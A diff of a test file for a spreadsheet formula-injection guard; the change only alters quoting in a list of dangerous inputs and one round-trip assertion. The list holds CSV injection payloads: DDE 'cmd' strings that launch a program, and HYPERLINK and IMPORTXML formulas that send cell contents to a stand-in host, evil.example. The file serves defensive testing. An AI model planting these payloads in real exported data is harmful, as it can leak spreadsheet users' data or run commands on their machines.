@@ -8,10 +8,10 @@ const DANGEROUS = [
   '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
   "=cmd|' /C calc'!A0",
   '+1+1',
-  '+cmd|\' /C calc\'!A0',
+  "+cmd|' /C calc'!A0",
   '-2+3',
-  '-cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "-cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
@@ -33,6 +33,6 @@ describe('formula injection guard', () => {
 
   it('still round-trips through a CSV parser as one cell', () => {
     const [row] = parse(`"${neutralizeFormula('=1,2"x"').replaceAll('"', '""')}"\r\n`) as string[][];
-    expect(row).toEqual(["'=1,2\"x\""]);
+    expect(row).toEqual(['\'=1,2"x"']);
   });
 });
